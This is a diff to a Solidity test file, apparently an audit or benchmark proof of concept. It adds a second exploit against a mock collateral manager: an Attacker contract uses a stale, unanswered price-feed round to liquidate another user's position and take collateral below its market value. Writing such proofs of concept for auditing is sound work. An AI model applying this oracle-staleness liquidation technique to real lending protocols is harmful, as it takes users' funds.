@@ -58,14 +58,18 @@ contract Proof {
     Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
     address constant ANA = address(0xA9A);
     address constant BEN = address(0xBE9);
+    address constant CAT = address(0xCA7);
 
     Weth weth;
     Usd usd;
     Feed feed;
+    Feed late;
     CollateralManager m;
+    CollateralManager n;
     Attacker mallory;
 
-    // the feed has stood at 2,000 for two days, the market is at 1,300
+    // The feed of m has stood at 2,000 for two days, the market is at 1,300. The feed of n has begun a round after an hour at
+    // 1,400 and has not answered it, the market is at 2,000 again.
     function setUp() public {
         weth = new Weth();
         usd = new Usd();
@@ -79,9 +83,26 @@ contract Proof {
         vm.prank(BEN);
         usd.approve(address(m), 10_000e18);
         feed.set(2_000e8);
-        mallory = new Attacker(m, weth);
+        later();
+        mallory = new Attacker(m, n, weth, usd);
         weth.mint(address(mallory), 20e18);
+        usd.mint(address(mallory), 12_000e18);
         vm.warp(block.timestamp + 2 days);
+    }
+
+    function later() private {
+        late = new Feed();
+        n = new CollateralManager(weth, usd, late);
+        usd.mint(address(n), 12_000e18);
+        weth.mint(CAT, 10e18);
+        late.set(2_000e8);
+        vm.startPrank(CAT);
+        weth.approve(address(n), 10e18);
+        n.lock(10e18);
+        n.draw(12_000e18);
+        vm.stopPrank();
+        late.set(1_400e8);
+        late.begin();
     }
 
     function test_Regular() public {
@@ -101,7 +122,7 @@ contract Proof {
         m.seize(ANA, 2_100e18);
         require(weth.balanceOf(BEN) == 2.1e18 && m.debtOf(ANA) == 5_900e18 && m.collOf(ANA) == 6.9e18, "seized");
         vm.warp(block.timestamp + 65 minutes);
-        require(m.price() == 1_050e8, "fresh");
+        require(m.price() == 1_050e8 && m.last() == 1_050e8 && m.worth(ANA) == 7_245e18, "fresh");
         m.take(1e18);
         require(usd.balanceOf(address(this)) == 1e18, "taken");
     }
@@ -149,6 +170,23 @@ contract Proof {
         require(usd.balanceOf(address(mallory)) >= 30_000e18, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.seize(CAT);
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(weth.balanceOf(address(mallory)) >= 29e18, "nothing gained");
+    }
+
+    function pledge() public view returns (address) {
+        return address(weth);
+    }
+
+    function target2() public view returns (address) {
+        return address(n);
+    }
+
     function asset() public view returns (address) {
         return address(usd);
     }
@@ -164,11 +202,18 @@ contract Proof {
 
 contract Attacker {
     CollateralManager m;
+    CollateralManager n;
     IERC20 weth;
+    IERC20 usd;
 
-    constructor(CollateralManager m_, IERC20 w) {
-        m = m_;
-        weth = w;
+    constructor(CollateralManager m_, CollateralManager n_, IERC20 w, IERC20 u) {
+        (m, n, weth, usd) = (m_, n_, w, u);
+    }
+
+    // 12,000 paid for 9 weth, which are worth 18,000 on the market
+    function seize(address who) external {
+        usd.approve(address(n), 12_000e18);
+        n.seize(who, 12_000e18);
     }
 
     // 26,000 on the market, 30,000 drawn
